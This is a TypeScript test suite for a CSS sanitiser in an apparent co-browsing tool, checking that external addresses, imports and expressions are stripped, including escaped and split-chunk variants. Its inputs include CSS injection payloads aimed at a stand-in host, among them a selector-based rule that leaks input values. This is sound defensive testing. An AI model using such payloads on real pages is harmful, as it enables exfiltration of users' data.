import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { type AssetBook, assetHashOf, isDataFont, isDataPicture } from '../../../lib/cobrowse/asset-ref.ts';
import { isSafeProperty, sanitiseCss, sanitiseCssValue } from '../../../lib/cobrowse/css-sanitise.ts';

const HERE = 'a'.repeat(64);
const AWAY = 'b'.repeat(64);
const EVIL = 'http://evil.example';

function createBook() {
  const fonts: string[] = [];
  const book: AssetBook = {
    addressOf: (hash) => (hash === HERE ? 'blob:here' : null),
    deferAttribute: () => {},
    deferProperty: () => {},
    deferFont: (css) => fonts.push(css),
  };
  return { book, fonts };
}
const clean = (css: string) => sanitiseCss(css, createBook().book).trim();

describe('addresses in CSS', () => {
  test.each([
    ['bare', `a{background:url(${EVIL}/x) no-repeat}`, 'a{background: none  no-repeat}'],
    ['quoted', `a{background:url( "${EVIL}" )}`, 'a{background: none }'],
    ['upper case', `a{background:URL(${EVIL})}`, 'a{background: none }'],
    ['escaped name', `a{background:\\75rl(${EVIL})}`, 'a{background: none }'],
    ['escape with a space', `a{background:u\\72 l(${EVIL})}`, 'a{background: none }'],
    ['six digits', `a{background:\\000075rl(${EVIL})}`, 'a{background: none }'],
    ['carriage return ends an escape', `a{background:\\75\r\nrl(${EVIL})}`, 'a{background: none }'],
    ['relative', 'a{background:url(//evil.example/x)}', 'a{background: none }'],
    ['protocol', 'a{background:url(javascript:alert(1))}', 'a{background: none )}'],
    ['page data', 'a{background:url(data:text/html,x)}', 'a{background: none }'],
    ['never closed', `a{background:url(${EVIL}`, 'a{background: none'],
    ['never closed, quoted', `a{background:url("${EVIL}`, 'a{background: none'],
    ['cursor', `a{cursor:url(${EVIL}) 1 1,auto}`, 'a{cursor: none  1 1,auto}'],
    ['src()', `a{background:src("${EVIL}")}`, 'a{background: none }'],
    ['image-set', `a{background:image-set("${EVIL}" 1x)}`, 'a{background: none }'],
    [
      'image-set by variable',
      ':root{--x:"u"}a{background:image-set(var(--x) 1x)}',
      ':root{--x:"u"}a{background: none }',
    ],
    ['import', `@import "${EVIL}";b{c:d}`, 'b{c:d}'],
    ['import, escaped', `@\\69mport url(${EVIL});b{c:d}`, 'b{c:d}'],
    ['import with a layer', `@import url(${EVIL}) layer(a) supports(b:c);b{c:d}`, 'b{c:d}'],
    ['import inside a block', `@media all{@import "${EVIL}"}b{c:d}`, '@media all{ }b{c:d}'],
    ['namespace', `@namespace x url(${EVIL});b{c:d}`, 'b{c:d}'],
    ['expression', 'a{width:expression(alert(1))}', 'a{width: none }'],
    ['comment start of HTML', `<!--url(${EVIL})-->`, 'none -->'],
    ['after a letter beyond ASCII', `×url(${EVIL})`, '× none'],
    [
      'exfiltration by selector',
      `input[value^="s"]{background:url(${EVIL}/s)}`,
      'input[value^="s"]{background: none }',
    ],
  ])('%s', (_, css, expected) => {
    expect(clean(css)).toBe(expected);
  });

  test.each([
    ['an asset that is here', `a{b:url(asset:${HERE})}`, 'a{b:url("blob:here")}'],
    ['an asset that comes later', `a{b:url("asset:${AWAY}") 1px}`, `a{b: var(--alongside-${AWAY},none)  1px}`],
    ['a picture in place', 'a{b:url(data:image/png;base64,AA==)}', 'a{b:url("data:image/png;base64,AA==")}'],
    ['a fragment', 'a{fill:url( "#g" )}', 'a{fill:url(#g)}'],
    ['an odd fragment', 'a{fill:url("#a)b")}', 'a{fill:url("#a)b")}'],
    ['the first picture of a set', `a{b:image-set("${EVIL}" 1x,"asset:${HERE}" 2x)}`, 'a{b:url("blob:here")}'],
  ])('keeps %s', (_, css, expected) => {
    expect(clean(css)).toBe(expected);
  });

  test.each([
    'a:hover>b[c="d:e"]{color:#fff;margin:0 1px calc(2px + 1em)}',
    '.w-1\\/2,.hover\\:x:hover{width:50%}',
    '@media (min-width:1px) and (prefers-color-scheme:dark){a{b:c!important}}',
    '@supports (display:grid){a{grid-template-areas:"x y" "z z"}}',
    '@keyframes k{0%{opacity:0}to{opacity:1}}',
    'a::after{content:"\\201c";font:12px/1.5 "A B",serif}',
    '.behavior{scroll-behavior:smooth}',
    '@layer a,b;@container x (width>1px){a{b:c}}',
  ])('passes on %s', (css) => {
    expect(sanitiseCss(css, createBook().book)).toBe(css);
  });
});

describe('fonts', () => {
  it('keeps a rule whose fonts are here', () => {
    const { book } = createBook();
    const css = `@font-face{font-family:x;src:url(asset:${HERE}) format("woff2"),url(${EVIL})}`;
    expect(sanitiseCss(css, book)).toBe('@font-face {font-family:x;src:url("blob:here") format("woff2"), none }');
  });
  it('sets a rule aside that waits for its bytes', () => {
    const { book, fonts } = createBook();
    expect(sanitiseCss(`@font-face{src:url(asset:${AWAY})}a{b:c}`, book).trim()).toBe('a{b:c}');
    expect(fonts).toEqual([`@font-face {src:url(asset:${AWAY})}`]);
  });
  it('takes pictures for fonts as little as fonts for pictures', () => {
    expect(clean('@font-face{src:url(data:image/png,x)}')).toBe('@font-face {src: none }');
    expect(clean('a{b:url(data:font/woff2,x)}')).toBe('a{b: none }');
  });
});

describe('texts that are put one after the other', () => {
  test.each([
    ['a name', 'a{b:ur', `l(${EVIL})}`],
    ['an escape', 'a{b:\\75', `rl(${EVIL})}`],
    ['an escape and its space', 'a{b:\\75 ', `rl(${EVIL})}`],
    ['a comment', 'a{b:c}/*', `"*/a{b:url(${EVIL})}/*"`],
    ['a string', 'a{b:"', `";c:url(${EVIL});d:"`],
    ['a string that looks closed', '";', `'url(${EVIL})`],
    ['an address', 'a{b:url(', `${EVIL})}`],
    ['a backslash', 'a{b:\\', `"url(${EVIL})`],
    ['a split mark inside a name', 'a{b:ur/* rr_split */', `l(${EVIL})}`],
    ['a split mark with its slash escaped', `\\/* rr_split */" url(${EVIL})`, ''],
    ['a split mark in a string, its slash escaped', `a{b:"\\/* rr_split */";c:";d:url(${EVIL})"}`, ''],
    ['a split mark in the name of a rule', `@\\/* rr_split */" url(${EVIL})`, ''],
  ])('%s', (_, first, second) => {
    const { book } = createBook();
    const joined = (sanitiseCss(first, book) + sanitiseCss(second, book)).replaceAll('/* rr_split */', '');
    expect(addressesIn(joined)).toEqual([]);
  });
  it('keeps a split mark where nothing can join', () => {
    expect(clean('a{b:c}/* rr_split */d{e:f}')).toBe('a{b:c}/* rr_split */d{e:f}');
    expect(clean('a{b:c/* rr_split */ }d{}')).toBe('a{b:c/**/ }/* rr_split */d{}');
  });
});

/**
 * A second, slower reading of CSS Syntax 3 §4.3, written apart from the sanitiser's: the addresses that a browser would
 * find in `css`.
 */
function addressesIn(css: string): string[] {
  const found: string[] = [];
  const text = css.replace(/\r\n|\r|\f/g, '\n');
  let i = 0;
  const escapeAt = (at: number) => text[at] === '\\' && at + 1 < text.length && text[at + 1] !== '\n';
  const readEscape = () => {
    const match = /^\\(?:([0-9a-f]{1,6})[ \n\t]?|([^]))/i.exec(text.slice(i, i + 10));
    i += match?.[0].length ?? 2;
    return match?.[1] === undefined
      ? (match?.[2] ?? '')
      : String.fromCodePoint(Number.parseInt(match[1], 16) % 0x10ffff);
  };
  const readName = () => {
    let name = '';
    for (;;) {
      if (/[\w\u0080-\uffff-]/.test(text[i] ?? '')) name += text[i++];
      else if (escapeAt(i)) name += readEscape();
      else return name;
    }
  };
  const readString = (quote: string) => {
    let value = '';
    i += 1;
    while (i < text.length && text[i] !== quote && text[i] !== '\n') {
      if (text[i] === '\\' && text[i + 1] === '\n') i += 2;
      else if (escapeAt(i)) value += readEscape();
      else value += text[i++];
    }
    if (text[i] === quote) i += 1;
    return value;
  };
  let wantsString = 0;
  let depth = 0;
  while (i < text.length) {
    const c = text[i] ?? '';
    if (text.startsWith('/*', i)) {
      const end = text.indexOf('*/', i + 2);
      i = end < 0 ? text.length : end + 2;
    } else if (text.startsWith('<!--', i)) i += 4;
    else if (c === '"' || c === "'") {
      const value = readString(c);
      if (wantsString > 0) found.push(value);
    } else if (c === '@') {
      i += 1;
      if (/^import$/i.test(readName())) found.push('@import');
    } else if (/\d/.test(c)) {
      i += /^\d+(?:\.\d+)?(?:e[+-]?\d+)?/i.exec(text.slice(i))?.[0].length ?? 1;
      readName();
    } else if (/[\w\u0080-\uffff-]/.test(c) || escapeAt(i)) {
      const name = readName().toLowerCase();
      if (text[i] !== '(') continue;
      i += 1;
      depth += 1;
      if (name === 'url') {
        while (/\s/.test(text[i] ?? '')) i += 1;
        if (text[i] === '"' || text[i] === "'") found.push(readString(text[i] ?? ''));
        else {
          let value = '';
          while (i < text.length && text[i] !== ')') value += escapeAt(i) ? readEscape() : text[i++];
          found.push(value);
        }
      } else if (/^(?:src|image|image-set|-webkit-image-set)$/.test(name)) wantsString = wantsString || depth;
    } else {
      if (c === '(') depth += 1;
      if (c === ')') {
        if (depth === wantsString) wantsString = 0;
        depth = Math.max(0, depth - 1);
      }
      i += 1;
    }
  }
  return found.filter((address) => !/^(?:#|blob:here$|data:image\/png)/.test(address));
}

it('is measured by a reader that finds addresses', () => {
  expect(addressesIn(`a{b:\\75rl(${EVIL})}/*url(x)*/@import "y";c{d:image-set("z" 1x)}`)).toEqual([
    EVIL,
    '@import',
    'z',
  ]);
});

describe('whatever the text', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      ...['url(', 'URL(', 'u\\72l(', '\\75 rl(', 'src(', 'image-set(', 'image(', '-webkit-image-set(', ')', '(', '"'],
      ...["'", '\\', '\n', '\r\n', '\f', '/*', '*/', '/* rr_split */', '<!--', '-->', '@import ', '@\\49mport ', '@'],
      ...['{', '}', '[', ']', ';', ':', ',', ' ', '#g', `asset:${HERE}`, `asset:${AWAY}`, EVIL, 'data:image/png,x'],
      ...[
        '1e3',
        '-',
        '--',
        '_',
        '×',
        '@font-face{src:',
        'var(--x)',
        'a',
        'expression(',
        '\0',
        '\\0',
        '\\d800 ',
        '%',
        '/',
      ],
    ),
    fc.string({ maxLength: 6, unit: 'binary' }),
  );
  const text = fc.array(piece, { maxLength: 24 }).map((pieces) => pieces.join(''));

  it('names no address', () => {
    fc.assert(
      fc.property(fc.array(text, { maxLength: 4 }), (texts) => {
        const { book } = createBook();
        const joined = texts.map((css) => sanitiseCss(css, book)).join('');
        expect(addressesIn(joined)).toEqual([]);
        expect(addressesIn(joined.replaceAll('/* rr_split */', ''))).toEqual([]);
      }),
      { numRuns: 5_000 },
    );
  });
  it('names no address in a value', () => {
    fc.assert(
      fc.property(text, (css) => {
        expect(addressesIn(sanitiseCssValue(css, createBook().book))).toEqual([]);
      }),
      { numRuns: 3_000 },
    );
  });
  it('has nothing to change in its own result', () => {
    fc.assert(
      fc.property(text, (css) => {
        const { book } = createBook();
        const once = sanitiseCss(css, book);
        expect(addressesIn(sanitiseCss(once, book))).toEqual([]);
      }),
    );
  });
});

test('properties', () => {
  expect(['color', '--x', '-webkit-mask', 'x_y'].every(isSafeProperty)).toBe(true);
  expect(['-moz-binding', 'behavior', 'a:b', 'a;b', '', 'a b'].some(isSafeProperty)).toBe(false);
});

test('references', () => {
  expect(assetHashOf(`asset:${HERE}`)).toBe(HERE);
  expect(assetHashOf(`asset:${HERE}0`)).toBeNull();
  expect(isDataPicture('data:image/svg+xml;utf8,<svg/>')).toBe(true);
  expect(isDataPicture('data:text/html,x')).toBe(false);
  expect(isDataFont('data:font/woff2;base64,x')).toBe(true);
});
